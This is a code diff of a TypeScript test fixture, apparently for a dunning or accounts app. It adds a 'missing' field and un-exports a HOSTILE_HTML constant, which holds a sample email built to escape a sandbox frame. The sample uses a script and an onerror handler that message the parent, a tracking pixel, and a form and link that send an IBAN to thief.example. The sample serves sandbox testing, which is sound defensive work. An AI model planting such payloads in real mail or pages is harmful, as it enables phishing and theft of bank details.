@@ -80,6 +80,7 @@ function accountAt(index: number): AccountAnswer {
     },
     overdue: index % 3 === 0 ? {} : { EUR: Math.floor(openMinor / 2) },
     oldestDueOn: addDays(FIRST_DAY, -index),
+    missing: hold?.kind === "rowsMissing" ? ["2026-0217", "2026-0230"] : [],
     levelReached: reached,
     lastNotice:
       reached === 0
@@ -117,7 +118,7 @@ function messageAt(index: number, on: CalendarDate): MessageAnswer {
 }
 
 /** The HTML of a mail that tries to get out of its frame. */
-export const HOSTILE_HTML = `<h1>Hello</h1><script>parent.postMessage("ran", "*"); top.document.title = "ran";</script>
+const HOSTILE_HTML = `<h1>Hello</h1><script>parent.postMessage("ran", "*"); top.document.title = "ran";</script>
 <img src="x" onerror="parent.postMessage('ran', '*')"><img src="https://tracker.example/open.gif">
 <form action="https://thief.example"><input name="iban"></form><a target="_top" href="https://thief.example">Pay</a>`;
 
